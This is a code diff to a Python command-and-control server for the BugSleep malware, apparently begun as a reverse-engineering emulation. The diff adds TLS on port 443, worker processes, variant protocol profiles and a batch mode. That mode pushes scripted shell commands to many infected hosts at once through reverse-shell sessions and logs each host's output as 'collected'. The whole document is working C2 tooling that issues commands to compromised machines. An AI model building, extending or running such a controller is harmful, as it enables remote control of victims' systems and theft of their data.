@@ -1,14 +1,59 @@
 #!/usr/bin/env python3
 
 import argparse
+import contextlib
+import multiprocessing
 import os
 import signal
 import socket
 import sys
+import tempfile
+import threading
 import time
-from typing import List
+from collections import deque
+from typing import IO, Deque, List, Optional, Set
+
+from bugsleep_metrics import MeteredSocket, Metrics, NullMetrics
+from bugsleep_net import (
+    RECV_TIMEOUT,
+    SESSION_IDLE_TIMEOUT,
+    ConnectionReader,
+    Session,
+    SessionRegistry,
+    ShortReadError,
+    WorkerPool,
+)
+from bugsleep_profile import ProtocolProfile, cipher, load_profile
+from bugsleep_tls import (
+    DEFAULT_CERTFILE,
+    DEFAULT_KEYFILE,
+    TLS_AUTO,
+    TLS_OFF,
+    TLS_ON,
+    TlsTerminator,
+)
 
 VERBOSE_LEVEL: int = 0
+#! protocol constants of the analyzed variant, see bugsleep_profile
+PROFILE = ProtocolProfile({})
+#! TLS termination, enabled with --tls
+TLS: Optional[TlsTerminator] = None
+#! live metrics, enabled with --metrics-port
+METRICS = NullMetrics()
+#! deadline (seconds) for every fixed-size message, see bugsleep_net.recv_exact
+RECV_TIMEOUT_S: Optional[float] = RECV_TIMEOUT
+#! max wait (seconds) for the next chunk of a command output
+READ_TIMEOUT_S: Optional[float] = 120.0
+#! max wait (seconds) to send a command
+WRITE_TIMEOUT_S: Optional[float] = 30.0
+#! command output kept in memory, then spilled to a temporary file
+OUTPUT_MEMORY_LIMIT: int = 1 << 20
+#! spilled output flushed to the terminal (reading paused meanwhile)
+OUTPUT_SPOOL_LIMIT: int = 32 << 20
+#! live sessions, idle or dead ones are reaped, see bugsleep_net.SessionRegistry
+SESSIONS = SessionRegistry()
+#! held by an interactive shell loop, a process lock shared with --workers
+TERMINAL: contextlib.AbstractContextManager = contextlib.nullcontext()
 server_socket = None
 
 """ 
@@ -61,7 +106,7 @@ def encrypt_message(message: bytes, increment: int = 3) -> bytes:
     :return: Encrypted message.
     :rtype: bytes
     """
-    return bytes((byte + increment) % 256 for byte in message)
+    return cipher(message, increment)
 
 
 def decrypt_message(message: bytes, increment: int = 3) -> bytes:
@@ -81,7 +126,7 @@ def decrypt_message(message: bytes, increment: int = 3) -> bytes:
     :return: Decrypted message.
     :rtype: bytes
     """
-    return bytes((byte + increment) % 256 for byte in message)
+    return cipher(message, increment)
 
 
 def pack_cmd(command: str, increment: int = 3) -> bytes:
@@ -98,11 +143,10 @@ def pack_cmd(command: str, increment: int = 3) -> bytes:
     try:
         msg: bytes = command.encode("ascii")
         msg_length: int = len(msg)
-        size_bytes: bytes = bytes([(msg_length + increment) % 256]) + bytes(
-            [(0x00 + increment) % 256] * 3
-        )
+        #! 32-bit little endian length (see the profile), encrypted as the command
+        size_bytes: bytes = encrypt_message(PROFILE.pack_int(msg_length), increment)
 
-        encrypted_cmd: bytes = bytes((b + increment) % 256 for b in msg)
+        encrypted_cmd: bytes = encrypt_message(msg, increment)
 
         return size_bytes + encrypted_cmd
     except Exception as err:
@@ -113,7 +157,8 @@ def pack_cmd(command: str, increment: int = 3) -> bytes:
 
 def parse_msg_length(header: bytes, increment: int) -> int:
     """
-    Function to parse and adjusts the first 4 bytes to determine message length.
+    Function to parse and adjusts the first 4 bytes to determine message length
+    (32-bit little endian).
 
     :param header: First 4 bytes received.
     :type header: bytes
@@ -122,8 +167,8 @@ def parse_msg_length(header: bytes, increment: int) -> int:
     :return: Message length.
     :rtype: int
     """
-    adjusted_header: bytes = bytes((b + increment) & 0xFF for b in header)
-    return adjusted_header[0]
+    adjusted_header: bytes = decrypt_message(header[: PROFILE.length_size], increment)
+    return PROFILE.parse_int(adjusted_header)
 
 
 def send_packed_cmd(client_socket: socket.socket, command: str, increment: int) -> None:
@@ -146,49 +191,154 @@ def send_packed_cmd(client_socket: socket.socket, command: str, increment: int)
     if VERBOSE_LEVEL >= 3:
         hexdump(packed_cmd)
 
+    client_socket.settimeout(WRITE_TIMEOUT_S)
     client_socket.sendall(packed_cmd)
 
 
-def recv_and_display_stdout(client_socket: socket.socket, increment: int) -> bool:
+def flush_stdout(
+    output: IO[bytes], final: bool, sink: Optional[IO[str]] = None
+) -> None:
+    """
+    Print and empty the buffered client output.
+
+    :param output: Buffered (decrypted) output.
+    :type output: IO[bytes]
+    :param final: Whether the end of message marker was received.
+    :type final: bool
+    :param sink: Where to write the output, stdout by default.
+    :type sink: Optional[IO[str]]
+    """
+    if sink is None:
+        sink = sys.stdout
+    output.seek(0)
+    while True:
+        block: bytes = output.read(1 << 16)
+        if not block:
+            break
+        #! this part it not ideal, but it works, so we simply remove some unwanted chars
+        clean_data: bytes = block.strip(b"\x00").replace(b"\r\n", b"\n")
+        sink.write(clean_data.decode("utf-8", errors="replace"))
+    if final:
+        sink.write("\n")
+    sink.flush()
+    output.seek(0)
+    output.truncate()
+
+
+def output_end(window: bytes, marker: bytes) -> int:
+    """
+    Frame boundary ending the first output of `window`: past the first end
+    of message marker and the padding (repeated marker bytes) following it.
+
+    :param window: Decrypted bytes of the output being received.
+    :type window: bytes
+    :param marker: End of message marker.
+    :type marker: bytes
+    :return: Offset of the next output, -1 without a marker followed by data.
+    :rtype: int
+    """
+    start: int = window.find(marker)
+    if start == -1:
+        return -1
+    end: int = start + len(marker)
+    if len(set(marker)) == 1:
+        while end < len(window) and window[end] == marker[0]:
+            end += 1
+    else:
+        while window.startswith(marker, end):
+            end += len(marker)
+    return end if end < len(window) else -1
+
+
+def recv_and_display_stdout(
+    client_socket: socket.socket,
+    increment: int,
+    session: Optional[Session] = None,
+    sink: Optional[IO[str]] = None,
+    leftover: Optional[bytearray] = None,
+) -> bool:
     """
     Received and process stdout sent by the client
 
+    The output is buffered in memory up to OUTPUT_MEMORY_LIMIT bytes, then
+    spilled to disk; once OUTPUT_SPOOL_LIMIT bytes are buffered, reading
+    stops while they are flushed to the terminal.
+
+    An output ends with a chunk ending with the end of message marker, so
+    an output containing the marker (binary data, zero padding) is not cut
+    short. Pipelined outputs sent back to back can arrive in the same chunk:
+    with `leftover`, the output also ends at a frame boundary inside the
+    chunk (see output_end), the (decrypted) bytes after it are kept in
+    `leftover` and read first by the next call.
+
     :param client_socket: Client socket.
     :type client_socket: socket.socket
     :param increment: Increment value used in decryption.
     :type increment: int
+    :param session: Registered session, its activity is recorded.
+    :type session: Optional[Session]
+    :param sink: Where to write the output, stdout by default.
+    :type sink: Optional[IO[str]]
+    :param leftover: Bytes received past the previous output, shared by the
+    calls of a pipelined session, None to only end at the end of a chunk.
+    :type leftover: Optional[bytearray]
     :return: True if successful, False otherwise.
     :rtype: bool
     """
+    output = tempfile.SpooledTemporaryFile(max_size=OUTPUT_MEMORY_LIMIT)
     try:
-        data_chunks: List[bytes] = []
+        client_socket.settimeout(READ_TIMEOUT_S)
+        marker: bytes = PROFILE.output_marker
+        tail: bytes = b""
+        decrypted_chunk: bytes = b""
+        if leftover:
+            decrypted_chunk = bytes(leftover)
+            leftover.clear()
         while True:
-            data: bytes = client_socket.recv(1024)
-            if not data:
-                # if we do not get any data, connection might have closed
-                # so, return False
-                return False
-
-            decrypted_chunk: bytes = decrypt_message(data, increment)
-            data_chunks.append(decrypted_chunk)
+            if not decrypted_chunk:
+                data: bytes = client_socket.recv(1024)
+                if not data:
+                    # if we do not get any data, connection might have closed
+                    # so, return False
+                    return False
+                if session is not None:
+                    session.touch()
+                decrypted_chunk = decrypt_message(data, increment)
 
             # Instead to surgically check every packet
             # let's look for the end message marker
             # as describe in the blog article
-            if decrypted_chunk.endswith(b"\x00\x00\x00\x00"):
+            window: bytes = tail + decrypted_chunk
+            cut: int = len(decrypted_chunk) if window.endswith(marker) else -1
+            if leftover is not None:
+                #! pipelined, the next output may follow in the same chunk
+                end: int = output_end(window, marker)
+                if end != -1:
+                    cut = end - len(tail)
+            if cut != -1:
+                output.write(decrypted_chunk[:cut])
+                if leftover is not None:
+                    leftover += decrypted_chunk[cut:]
                 break
+            output.write(decrypted_chunk)
+            #! shorter than the marker, so never a whole marker on its own
+            tail = window[max(0, len(window) - len(marker) + 1) :]
+            decrypted_chunk = b""
 
-        full_data: bytes = b"".join(data_chunks)
-
-        #! this part it not ideal, but it works, so we simply remove some unwanted chars
-        clean_data: bytes = full_data.strip(b"\x00").replace(b"\r\n", b"\n")
+            if output.tell() >= OUTPUT_SPOOL_LIMIT:
+                flush_stdout(output, final=False, sink=sink)
 
-        print(clean_data.decode("utf-8", errors="replace"))
+        flush_stdout(output, final=True, sink=sink)
 
         return True
+    except socket.timeout:
+        print(f"[Error] No output received from the client in {READ_TIMEOUT_S}s")
+        return False
     except Exception as err:
         print(f"[Error] Exception occurred while receiving data: {err}")
         return False
+    finally:
+        output.close()
 
 
 def signal_handler() -> None:
@@ -209,79 +359,331 @@ def signal_handler() -> None:
     sys.exit(0)
 
 
-def handle_client_conn(client_socket: socket.socket, increment: int) -> None:
+def client_handshake(
+    client_socket: socket.socket, increment: int, session: Session
+) -> bool:
     """
-    Handles the client connection, and C2 dispatcher logic, e.g. which command
-    to trigger on the client side.
+    Run the first three phases of a reverse shell session.
 
     :param client_socket: Client socket.
     :type client_socket: socket.socket
-    :param increment: Increment value used in encrypt/decrypt messages (it may
-    change across BugSleep versions).
+    :param increment: Increment value used in encrypt/decrypt messages.
     :type increment: int
+    :param session: Registered session, its activity is recorded.
+    :type session: Session
+    :return: True if the handshake completed, False otherwise.
+    :rtype: bool
     """
+    handshake_start = time.perf_counter()
+    verbose_print(1, "\n[Phase 1] Receiving the first message from client...")
+    reader = ConnectionReader(client_socket, RECV_TIMEOUT_S)
     try:
-        verbose_print(1, "\n[Phase 1] Receiving the first message from client...")
-        header: bytes = client_socket.recv(4)
-        if len(header) < 4:
-            print("  [Error] Incomplete header received.")
-            return
+        header: memoryview = reader.recv_exact(PROFILE.length_size)
+    except ShortReadError:
+        print("  [Error] Incomplete header received.")
+        return False
 
-        msg_length: int = parse_msg_length(header, increment)
-        verbose_print(2, f"\t[Phase 1] Expected message length: {msg_length} bytes")
+    msg_length: int = parse_msg_length(header, increment)
+    verbose_print(2, f"\t[Phase 1] Expected message length: {msg_length} bytes")
+    if msg_length > PROFILE.max_message_length:
+        #! unauthenticated, refuse it before allocating for it
+        print(
+            f"  [Error] Message length {msg_length} above the "
+            f"{PROFILE.max_message_length} bytes limit."
+        )
+        return False
 
-        data: bytes = client_socket.recv(msg_length)
-        if len(data) < msg_length:
-            print("  [Error] Incomplete data received.")
-            return
+    try:
+        data: memoryview = reader.recv_exact(msg_length)
+    except ShortReadError:
+        print("  [Error] Incomplete data received.")
+        return False
+
+    adjusted_data: bytes = decrypt_message(data, increment)
+    verbose_print(2, "  [Phase 1] Received data (hexdump and ASCII view):")
+    if VERBOSE_LEVEL >= 3:
+        hexdump(adjusted_data)
+    else:
+        verbose_print(2, f"\tData: {adjusted_data.decode(errors='replace')}")
+
+    verbose_print(1, "\n[Phase 2] Sending random bytes back to the client...")
+    random_bytes: bytes = os.urandom(PROFILE.random_size)
+    client_socket.sendall(random_bytes)
+
+    #! the deliberate delay is not handshake latency
+    delay_start = time.perf_counter()
+    time.sleep(PROFILE.handshake_delay)
+    handshake_start += time.perf_counter() - delay_start
+
+    verbose_print(1, "\n[Phase 3] Sending the initial message to the client...")
+    #! command 0x2 (reverse shell)
+    final_message: bytes = PROFILE.initial_message(0x2, increment)
+    client_socket.sendall(final_message)
+    session.touch()
+    METRICS.observe("handshake", time.perf_counter() - handshake_start)
+    METRICS.handshake()
+    return True
+
+
+def load_script(path: str) -> List[str]:
+    """
+    Read a batch command script: one command per line, blank lines and lines
+    starting with '#' are skipped, 'terminate' ends the script.
+
+    :param path: Script path.
+    :type path: str
+    :return: Commands to send.
+    :rtype: List[str]
+    """
+    commands: List[str] = []
+    with open(path, "r", encoding="utf-8") as script:
+        for line in script:
+            command: str = line.strip()
+            if not command or command.startswith("#"):
+                continue
+            if command.lower() == "terminate":
+                break
+            commands.append(command)
+    return commands
 
-        adjusted_data: bytes = bytes((b + increment) % 256 for b in data)
-        verbose_print(2, "  [Phase 1] Received data (hexdump and ASCII view):")
-        if VERBOSE_LEVEL >= 3:
-            hexdump(adjusted_data)
-        else:
-            verbose_print(2, f"\tData: {adjusted_data.decode(errors='replace')}")
 
-        verbose_print(1, "\n[Phase 2] Sending 4 random bytes back to the client...")
-        random_bytes: bytes = os.urandom(4)
-        client_socket.sendall(random_bytes)
+class BatchRunner(object):
+    """
+    Non-interactive reverse shell sessions.
 
-        time.sleep(1)
+    Every accepted session runs in its own thread (at most `max_sessions` at
+    once): the host script is sent through send_packed_cmd, up to
+    `pipeline_depth` commands ahead of their outputs, and the outputs are
+    written to `<transcript_dir>/<host>.log`. Each host is scripted once per
+    run, later beacons from a collected host are closed.
+    """
 
-        verbose_print(1, "\n[Phase 3] Sending the initial message to the client...")
-        base_value: int = 2 + 0x01
-        first_four_bytes: bytes = bytes([base_value + 0x03, 0x03, 0x03, 0x03])
-        final_message: bytes = first_four_bytes
-        client_socket.sendall(final_message)
+    def __init__(
+        self,
+        script: Optional[str],
+        script_dir: Optional[str],
+        transcript_dir: str,
+        pipeline_depth: int = 1,
+        max_sessions: int = 64,
+    ) -> None:
+        self.commands: Optional[List[str]] = (
+            load_script(script) if script is not None else None
+        )
+        self.script_dir = script_dir
+        self.transcript_dir = transcript_dir
+        self.pipeline_depth = max(1, pipeline_depth)
+        self.slots = threading.BoundedSemaphore(max(1, max_sessions))
+        self.lock = threading.Lock()
+        self.hosts: Set[str] = set()
+        self.collected = 0
+        os.makedirs(transcript_dir, exist_ok=True)
+
+    def commands_for(self, host: str) -> Optional[List[str]]:
+        """
+        Script of `host`: `<script_dir>/<host>.txt`, else the shared script.
+        """
+        if self.script_dir is not None:
+            path: str = os.path.join(self.script_dir, f"{host}.txt")
+            if os.path.isfile(path):
+                return load_script(path)
+        return self.commands
+
+    def claim(self, host: str) -> bool:
+        """
+        Reserve `host`, False if it is already being or has been scripted.
+        """
+        with self.lock:
+            if host in self.hosts:
+                return False
+            self.hosts.add(host)
+            return True
+
+    def dispatch(
+        self, client_socket: socket.socket, address: tuple, increment: int
+    ) -> None:
+        """
+        Handle an accepted session in a new thread, waits for a free slot.
+        """
+        self.slots.acquire()
+
+        def run() -> None:
+            try:
+                with METRICS.session():
+                    handle_client_conn(client_socket, increment, batch=self)
+            finally:
+                self.slots.release()
+
+        threading.Thread(target=run, name=f"batch-{address[0]}", daemon=True).start()
+
+    def run(
+        self,
+        client_socket: socket.socket,
+        increment: int,
+        session: Session,
+        host: str,
+    ) -> None:
+        """
+        Send the host script and record the outputs in its transcript.
+        """
+        commands: Optional[List[str]] = self.commands_for(host)
+        if commands is None:
+            print(f"[Batch] {host}: no script, closing the session.")
+            return
+        if not self.claim(host):
+            verbose_print(1, f"[Batch] {host}: already scripted, closing the session.")
+            return
 
-        verbose_print(1, "[Shell] Interactive shell started. Type 'terminate' to exit.")
+        path: str = os.path.join(self.transcript_dir, f"{host}.log")
+        completed: int = 0
+        try:
+            with open(path, "a", encoding="utf-8") as transcript:
+                transcript.write(
+                    f"# {host} {time.strftime('%Y-%m-%d %H:%M:%S')}, "
+                    f"{len(commands)} commands\n"
+                )
+                completed = self.send_script(
+                    client_socket, increment, session, commands, transcript
+                )
+        finally:
+            with self.lock:
+                if completed == len(commands):
+                    self.collected += 1
+                else:
+                    #! let the next beacon of the host retry the script
+                    self.hosts.discard(host)
+                collected: int = self.collected
+            print(
+                f"[Batch] {host}: {completed}/{len(commands)} commands -> {path} "
+                f"({collected} hosts collected)"
+            )
 
-        while True:
-            if not recv_and_display_stdout(client_socket, increment):
+    def send_script(
+        self,
+        client_socket: socket.socket,
+        increment: int,
+        session: Session,
+        commands: List[str],
+        transcript: IO[str],
+    ) -> int:
+        """
+        Pipeline `commands` to the client, their outputs are read in order.
+
+        :return: Number of commands whose output was received.
+        :rtype: int
+        """
+        #! outputs pipelined back to back can share a recv, see leftover,
+        #! one command at a time an output only ends with a chunk
+        leftover: Optional[bytearray] = bytearray() if self.pipeline_depth > 1 else None
+        #! the shell greets with its banner before the first command
+        if not recv_and_display_stdout(
+            client_socket, increment, session, transcript, leftover
+        ):
+            return 0
+
+        pending: Deque[str] = deque()
+        index: int = 0
+        completed: int = 0
+        while index < len(commands) or pending:
+            while index < len(commands) and len(pending) < self.pipeline_depth:
+                send_packed_cmd(client_socket, commands[index], increment)
+                pending.append(commands[index])
+                index += 1
+
+            command_start = time.perf_counter()
+            transcript.write(f"\n[Shell] > {pending.popleft()}\n")
+            if not recv_and_display_stdout(
+                client_socket, increment, session, transcript, leftover
+            ):
                 break
+            METRICS.observe("command", time.perf_counter() - command_start)
+            completed += 1
+        return completed
 
-            command: str = input(
-                "[Shell] Enter a command ('terminate' to exit): "
-            ).strip()
 
-            # Handle terminate msg if sent by the BugSleep operator
-            if command.lower() == "terminate":
-                verbose_print(1, "[Shell] Terminating the session...")
-                break
+def handle_client_conn(
+    client_socket: socket.socket,
+    increment: int,
+    batch: Optional[BatchRunner] = None,
+) -> None:
+    """
+    Handles the client connection, and C2 dispatcher logic, e.g. which command
+    to trigger on the client side.
 
-            send_packed_cmd(client_socket, command, increment)
+    :param client_socket: Client socket.
+    :type client_socket: socket.socket
+    :param increment: Increment value used in encrypt/decrypt messages (it may
+    change across BugSleep versions).
+    :type increment: int
+    :param batch: Run the session non-interactively, see BatchRunner.
+    :type batch: Optional[BatchRunner]
+    """
+    if TLS is not None:
+        client_socket = TLS.accept(client_socket)
+        if client_socket is None:
+            return
+    session: Optional[Session] = None
+    try:
+        #! raises if the client already reset the connection
+        peer: tuple = client_socket.getpeername()
+        session = SESSIONS.register(client_socket, peer)
+        if METRICS.enabled:
+            client_socket = MeteredSocket(client_socket, METRICS, "shell")
 
-            if not recv_and_display_stdout(client_socket, increment):
-                break
+        if not client_handshake(client_socket, increment, session):
+            return
+
+        if batch is not None:
+            batch.run(client_socket, increment, session, peer[0])
+            return
+
+        #! with --workers, the sessions take turns on the operator terminal
+        session.state = Session.STATE_OPERATOR
+        with TERMINAL:
+            session.state = Session.STATE_NETWORK
+            verbose_print(
+                1, "[Shell] Interactive shell started. Type 'terminate' to exit."
+            )
+
+            while True:
+                if not recv_and_display_stdout(client_socket, increment, session):
+                    break
+
+                session.state = Session.STATE_OPERATOR
+                command: str = input(
+                    "[Shell] Enter a command ('terminate' to exit): "
+                ).strip()
+                session.state = Session.STATE_NETWORK
+                session.touch()
+
+                # Handle terminate msg if sent by the BugSleep operator
+                if command.lower() == "terminate":
+                    verbose_print(1, "[Shell] Terminating the session...")
+                    break
+
+                command_start = time.perf_counter()
+                send_packed_cmd(client_socket, command, increment)
+
+                if not recv_and_display_stdout(client_socket, increment, session):
+                    break
+                METRICS.observe("command", time.perf_counter() - command_start)
 
     except Exception as e:
         print(f"  [Error] Unhandled exception triggered: {e}")
     finally:
         verbose_print(1, "[Connection] Closing client connection.")
+        if session is not None:
+            SESSIONS.unregister(session)
         client_socket.close()
 
 
-def start_server(host: str = "0.0.0.0", port: int = 443, increment: int = 3) -> None:
+def start_server(
+    host: str = "0.0.0.0",
+    port: int = 443,
+    increment: int = 3,
+    workers: int = 1,
+    metrics_address: Optional[tuple] = None,
+    batch: Optional[BatchRunner] = None,
+) -> None:
     """
     Main function to handle client connections.
 
@@ -292,8 +694,40 @@ def start_server(host: str = "0.0.0.0", port: int = 443, increment: int = 3) ->
     :param increment: Increment value used in encrypt/decrypt messages (it may
     change across BugSleep versions).
     :type increment: int
+    :param workers: Number of worker processes, see bugsleep_net.WorkerPool.
+    :type workers: int
+    :param metrics_address: (host, port) of the metrics endpoint, workers
+    use port + worker index.
+    :type metrics_address: Optional[tuple]
+    :param batch: Run the sessions non-interactively and concurrently, see
+    BatchRunner.
+    :type batch: Optional[BatchRunner]
     """
-    global server_socket
+    global server_socket, TERMINAL
+
+    if workers > 1:
+        #! created before the fork, so every worker shares it: a single
+        #! process reads the operator input at a time
+        TERMINAL = multiprocessing.Lock()
+
+        def handle(client_socket: socket.socket, address: tuple) -> None:
+            verbose_print(
+                1, f"\n[Connection] Accepted connection from client: {address}"
+            )
+            with METRICS.session():
+                handle_client_conn(client_socket, increment)
+
+        def init_worker(index: int) -> None:
+            SESSIONS.start_reaper()
+            if metrics_address is not None:
+                METRICS.serve(metrics_address[0], metrics_address[1] + index)
+
+        try:
+            WorkerPool(host, port, workers, handle, worker_init=init_worker).run()
+        except OSError as err:
+            print(f"[BugSleepC2] Error starting workers on {host}:{port} - {err}")
+            sys.exit(1)
+        return
 
     #! register the signal handler (mange e.g. Ctrl+C) and clean-up stuff
     #! to avoid issues on port binding when running in Linux
@@ -310,8 +744,17 @@ def start_server(host: str = "0.0.0.0", port: int = 443, increment: int = 3) ->
     except OSError as err:
         print(f"[BugSleepC2] Error binding to {host}:{port} - {err}")
         sys.exit(1)
-    server_socket.listen(5)
+    #! batch mode expects a whole fleet to beacon at once
+    server_socket.listen(5 if batch is None else socket.SOMAXCONN)
+    SESSIONS.start_reaper()
     verbose_print(1, f"[BugSleepC2] Listening on {host}:{port}")
+    if metrics_address is not None:
+        METRICS.serve(*metrics_address)
+        verbose_print(
+            1,
+            f"[BugSleepC2] Metrics on "
+            f"http://{metrics_address[0]}:{metrics_address[1]}/metrics",
+        )
 
     try:
         while True:
@@ -319,7 +762,11 @@ def start_server(host: str = "0.0.0.0", port: int = 443, increment: int = 3) ->
             verbose_print(
                 1, f"\n[Connection] Accepted connection from client: {address}"
             )
-            handle_client_conn(client_socket, increment)
+            if batch is not None:
+                batch.dispatch(client_socket, address, increment)
+                continue
+            with METRICS.session():
+                handle_client_conn(client_socket, increment)
     except Exception as e:
         print(f"\n[BugSleepC2] Error: {e}")
     finally:
@@ -343,11 +790,111 @@ if __name__ == "__main__":
         default=443,
         help="TCP port to bind to. (default: %(default)s)",
     )
+    parser.add_argument(
+        "--tls",
+        choices=[TLS_OFF, TLS_ON, TLS_AUTO],
+        default=TLS_OFF,
+        help="Terminate TLS in-process: on (TLS only) or auto (sniff the first "
+        "bytes, TLS and raw BugSleep on the same port). (default: %(default)s)",
+    )
+    parser.add_argument(
+        "--tls-cert",
+        type=str,
+        default=DEFAULT_CERTFILE,
+        help="TLS certificate (PEM), a self-signed pair is generated if both "
+        "files are missing. (default: %(default)s)",
+    )
+    parser.add_argument(
+        "--tls-key",
+        type=str,
+        default=DEFAULT_KEYFILE,
+        help="TLS private key (PEM). (default: %(default)s)",
+    )
+    parser.add_argument(
+        "--profile",
+        type=str,
+        help="Protocol profile (JSON) of the BugSleep variant, see bugsleep_profile. "
+        "(default: the 2024.10 sample)",
+    )
     parser.add_argument(
         "--increment",
         type=int,
-        default=0x03,
-        help="Increment to add to bytes. (default: %(default)s). Use the value discoverd while RE BugSleep.",
+        help="Increment to add to bytes, overrides the profile one (default: 3). Use the value discoverd while RE BugSleep.",
+    )
+    parser.add_argument(
+        "--recv-timeout",
+        type=float,
+        default=RECV_TIMEOUT,
+        help="Deadline in seconds to receive a single message. (default: %(default)s)",
+    )
+    parser.add_argument(
+        "--read-timeout",
+        type=float,
+        default=READ_TIMEOUT_S,
+        help="Max wait in seconds for the next chunk of a command output. "
+        "(default: %(default)s)",
+    )
+    parser.add_argument(
+        "--write-timeout",
+        type=float,
+        default=WRITE_TIMEOUT_S,
+        help="Max wait in seconds to send a command. (default: %(default)s)",
+    )
+    parser.add_argument(
+        "--idle-timeout",
+        type=float,
+        default=SESSION_IDLE_TIMEOUT,
+        help="Sessions idle on the network for longer are closed. (default: %(default)s)",
+    )
+    parser.add_argument(
+        "--workers",
+        type=int,
+        default=1,
+        help="Worker processes sharing the port (SO_REUSEPORT), the interactive "
+        "sessions take turns on this terminal. (default: %(default)s)",
+    )
+    parser.add_argument(
+        "--metrics-port",
+        type=int,
+        help="Serve Prometheus metrics on this port (http://<metrics-host>:<port>/metrics).",
+    )
+    parser.add_argument(
+        "--metrics-host",
+        type=str,
+        default="127.0.0.1",
+        help="Metrics endpoint address. (default: %(default)s)",
+    )
+    parser.add_argument(
+        "--script",
+        type=str,
+        help="Batch mode: send the commands of this file (one per line) to "
+        "every session instead of prompting.",
+    )
+    parser.add_argument(
+        "--script-dir",
+        type=str,
+        help="Batch mode: per-host scripts, <dir>/<host ip>.txt (falls back to --script).",
+    )
+    parser.add_argument(
+        "--transcripts",
+        type=str,
+        default="transcripts",
+        help="Batch mode: directory of the per-host transcripts, <host ip>.log. "
+        "(default: %(default)s)",
+    )
+    parser.add_argument(
+        "--pipeline",
+        type=int,
+        default=1,
+        help="Batch mode: commands sent ahead of their outputs, an output "
+        "containing the end of output marker (binary data) then ends early. "
+        "(default: %(default)s)",
+    )
+    parser.add_argument(
+        "--max-sessions",
+        type=int,
+        default=64,
+        help="Batch mode: sessions scripted concurrently. (default: %(default)s)",
     )
     parser.add_argument(
         "-v",
@@ -359,7 +906,51 @@ if __name__ == "__main__":
 
     args = parser.parse_args()
 
+    if args.profile is not None:
+        try:
+            PROFILE = load_profile(args.profile)
+        except (OSError, ValueError) as err:
+            parser.error(f"{args.profile}: {err}")
+    if args.tls != TLS_OFF:
+        try:
+            TLS = TlsTerminator.from_files(
+                args.tls, args.tls_cert, args.tls_key, args.recv_timeout
+            )
+        except OSError as err:
+            parser.error(f"TLS setup failed: {err}")
+    increment: int = PROFILE.increment if args.increment is None else args.increment
+
+    batch: Optional[BatchRunner] = None
+    if args.script is not None or args.script_dir is not None:
+        if args.workers > 1:
+            parser.error("batch mode runs the sessions in threads, drop --workers")
+        batch = BatchRunner(
+            args.script,
+            args.script_dir,
+            args.transcripts,
+            pipeline_depth=args.pipeline,
+            max_sessions=args.max_sessions,
+        )
+
     VERBOSE_LEVEL = args.verbose
+    RECV_TIMEOUT_S = args.recv_timeout
+    READ_TIMEOUT_S = args.read_timeout
+    WRITE_TIMEOUT_S = args.write_timeout
+    SESSIONS.idle_timeout = args.idle_timeout
+    if args.metrics_port is not None:
+        METRICS = Metrics()
+        METRICS.meter_cipher()
 
     #! let's rock
-    start_server(host=args.host, port=args.port, increment=args.increment)
+    start_server(
+        host=args.host,
+        port=args.port,
+        increment=increment,
+        workers=args.workers,
+        metrics_address=(
+            (args.metrics_host, args.metrics_port)
+            if args.metrics_port is not None
+            else None
+        ),
+        batch=batch,
+    )